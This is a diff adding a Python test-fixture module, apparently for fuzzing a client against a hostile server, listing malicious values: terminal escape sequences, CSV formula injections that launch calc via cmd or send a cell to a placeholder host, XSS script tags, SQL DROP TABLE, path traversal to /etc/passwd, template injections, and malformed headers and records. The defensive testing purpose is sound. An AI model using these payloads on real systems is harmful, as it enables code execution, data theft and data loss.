@@ -1,0 +1,160 @@
+"""What a hostile server writes where a text or a value belongs."""
+
+import base64
+import html
+from collections.abc import Callable
+from typing import Any
+from urllib.parse import quote, quote_plus
+
+OTHER_IP = "198.51.100.99"
+LEFT_OUT = object()
+"""Stands where a field is to be missing."""
+
+ATTACKS: dict[str, Any] = {
+    "escape-sequences": "\x1b[2J\x1b[31mred\x1b]0;title\x07\x1bP+q\x1b\\",
+    "c1-controls": "\x9b31mred\x9d0;title\x9c",
+    "control-characters": "".join(map(chr, range(32))) + "\x7f",
+    "backspaces": "fine\b\b\b\bevil\rEVIL",
+    "csv-formula": '=HYPERLINK("http://x/?"&A1,"click")',
+    "csv-formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "csv-formula-plus": "+1+cmd|' /C calc'!A0",
+    "csv-formula-minus": "-1+cmd|' /C calc'!A0",
+    "csv-formula-tab": "\t=1+1",
+    "csv-formula-full-width": "\uff1d1+1",
+    "csv-quotes": '","=1+1","\r\n=1+1,',
+    "no-xml": "\x0b\x0c\ufffe\uffff]]>&undefined;",
+    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
+    "html-attribute": '" onmouseover="alert(1)" \' x=\'',
+    "bidi": "\u202eevil\u2066\u2069\u202c\u061c",
+    "zero-width": "in\u200bvi\u200csi\u200dble\u2060\ufeff",
+    "line-separators": "one\u2028two\u2029three\x85four",
+    "format-string": "%s%s%s%n {0} {0.__class__} ${x} #{x}",
+    "template": "{{ 7*7 }}{% for x in y %}{# c #}",
+    "rich-markup": "[bold red]x[/] [link=http://x]y[/link]",
+    "sql": "'; DROP TABLE attempt; --",
+    "path": "../../../../etc/passwd",
+    "lone-surrogates": "\ud800\udfff",
+    "private-use": "\ue000\U000f0000\U0010ffff",
+    "tags": "\U000e0041\U000e007f",
+    "combining": "a" + "\u0301" * 5000,
+    "numbers": 17,
+    "list": ["one", ["two"], {"three": 3}],
+    "object": {"text": {"text": "deep"}},
+    "empty": "",
+    "blank": " \u3000\u2003 ",
+    "many-lines": "\n" * 5000 + "x",
+    "json": '{"result": "OK"}',
+    "status-word": '","status":"changed","x":"',
+}
+
+ECHOES: dict[str, Callable[[str], str]] = {
+    "raw": str,
+    "upper-case": str.upper,
+    "lower-case": str.lower,
+    "percent": lambda token: quote(token, safe=""),
+    "percent-twice": lambda token: quote(quote(token, safe=""), safe=""),
+    "percent-everything": lambda token: "".join(f"%{ord(char):02X}" for char in token),
+    "form": quote_plus,
+    "base64": lambda token: base64.b64encode(token.encode()).decode(),
+    "base64-with-user": lambda token: base64.b64encode(f"api:{token}".encode()).decode(),
+    "base64-url": lambda token: base64.urlsafe_b64encode(f"x{token}".encode()).decode(),
+    "hex": lambda token: token.encode().hex(),
+    "hex-with-colons": lambda token: token.encode().hex(":"),
+    "json-escapes": lambda token: "".join(f"\\u{ord(char):04x}" for char in token),
+    "backslash-x": lambda token: "".join(f"\\x{ord(char):02x}" for char in token),
+    "html": html.escape,
+    "html-decimal": lambda token: "".join(f"&#{ord(char)};" for char in token),
+    "html-hexadecimal": lambda token: "".join(f"&#x{ord(char):x};" for char in token),
+    "split-by-lines": lambda token: f"{token[:7]}\r\n  {token[7:]}",
+    "split-by-zero-width": "\u200b".join,
+    "split-by-escapes": "\x1b".join,
+    "reversed": lambda token: token[::-1],
+    "in-a-url": lambda token: f"https://user:{quote(token)}@x/?token={quote_plus(token)}",
+    "twice": lambda token: token + token,
+    "behind-a-long-text": lambda token: "x" * 290 + token,
+    "far-behind": lambda token: "x " * 4000 + token,
+}
+REFUSALS: dict[str, str] = {
+    "permission": "Permission denied",
+    "malformed": "malformed IP=%s for token 12345",
+    "not-assigned": "IP is not assigned for server",
+    "mismatch": "invalid request (ID or IP mismatch)",
+    "not-found": "server not found",
+    "unknown-action": "unknown action",
+    "throttled": "too many requests",
+    "token": "invalid token",
+}
+TROUBLES: dict[str, str] = {
+    "try-again": "please try again later",
+    "internal": "Internal error",
+    "timed-out": "operation timed out",
+}
+WAITS: dict[str, tuple[str, ...]] = {
+    "negative": ("Retry-After: -5",),
+    "infinite": ("Retry-After: 1e400",),
+    "nan": ("Retry-After: NaN",),
+    "word": ("Retry-After: soon",),
+    "blank": ("Retry-After: ",),
+    "zero": ("Retry-After: 0",),
+    "twenty-digits": ("Retry-After: 99999999999999999999",),
+    "1970": ("Retry-After: Thu, 01 Jan 1970 00:00:00 GMT",),
+    "year-99999": ("Retry-After: Fri, 31 Dec 99999 23:59:59 GMT",),
+    "no-date": ("Retry-After: Fri, 99 Foo 2026 99:99:99 XYZ",),
+    "two": ("Retry-After: 0", "Retry-After: 0.01"),
+    "list": ("Retry-After: 0, 86400",),
+    "escape": ("Retry-After: \x9b1",),
+}
+"""A wait is asked for, but no usable one; what is honest about waiting is tested elsewhere."""
+
+NO_NAMES: dict[str, Any] = {
+    "number": 17,
+    "list": ["mail.example.net"],
+    "object": {"ptr": "mail.example.net"},
+    "true": True,
+    "missing": LEFT_OUT,
+    "sentence": "no PTR record found for this address",
+    "html": "<b>mail.example.net</b>",
+    "formula": "=1+1",
+    "escape": "mail\x1b[31m.example.net",
+    "bidi": "mail\u202e.example.net",
+    "zero-width": "mail\u200b.example.net",
+    "nul": "mail.example.net\0",
+    "dots": "..",
+    "too-long": "a." * 200 + "net",
+    "too-many": "\n".join(f"n{number}.example.net" for number in range(101)),
+    "very-many": "a.example.net\n" * 300_000,
+    "surrogate": "mail\ud800.example.net",
+    "quotes": '"mail.example.net"',
+}
+NO_TRAFFIC: dict[str, Any] = {
+    "number": 17,
+    "text": "none",
+    "true": True,
+    "list-of-numbers": [1, 2],
+    "list-of-lists": [[]],
+    "rows-without-in": [{"timestamp": "2026-09-01T00:00:00Z", "out": 1}],
+    "negative": [{"timestamp": "2026-09-01T00:00:00Z", "in": -1, "out": 1}],
+    "text-amounts": [{"timestamp": "2026-09-01T00:00:00Z", "in": "1.25", "out": "0.85"}],
+    "true-amounts": [{"timestamp": "2026-09-01T00:00:00Z", "in": True, "out": True}],
+    "huge": [{"timestamp": "2026-09-01T00:00:00Z", "in": 1e300, "out": 1}],
+    "no-time": [{"timestamp": "yesterday", "in": 1, "out": 1}, {"in": 1, "out": 1}],
+    "time-of-day-999": [{"timestamp": 10**12, "in": 1, "out": 1}],
+    "formula-as-time": [{"timestamp": "=1+1", "in": 1, "out": 1}],
+    "null": [None],
+    "deep": [[[[[[[[[[]]]]]]]]]],
+}
+NO_NETWORK: dict[str, Any] = {
+    "missing": LEFT_OUT,
+    "null": None,
+    "list": [],
+    "empty": {},
+    "text": "10.0.0.0/8",
+    "number": {"network": 1, "netmask": 2, "gateway": 3, "broadcast": 4},
+    "words": {"network": "a", "netmask": "b", "gateway": "c", "broadcast": "d"},
+    "too-large": {"network": "999.0.0.0", "netmask": "255.0.0.0"},
+    "lists": {"network": ["10.0.0.0"], "netmask": ["255.0.0.0"]},
+    "formula-as-status": {"network": "10.0.0.0", "netmask": "255.0.0.0", "status": "\x1b=1+1"},
+    "status-object": {"network": "10.0.0.0", "netmask": "255.0.0.0", "status": {"a": 1}},
+    "long-status": {"network": "10.0.0.0", "netmask": "255.0.0.0", "status": "x" * 10_000},
+    "another-address": {"network": "10.0.0.0", "netmask": "255.0.0.0", "ip": OTHER_IP},
+}
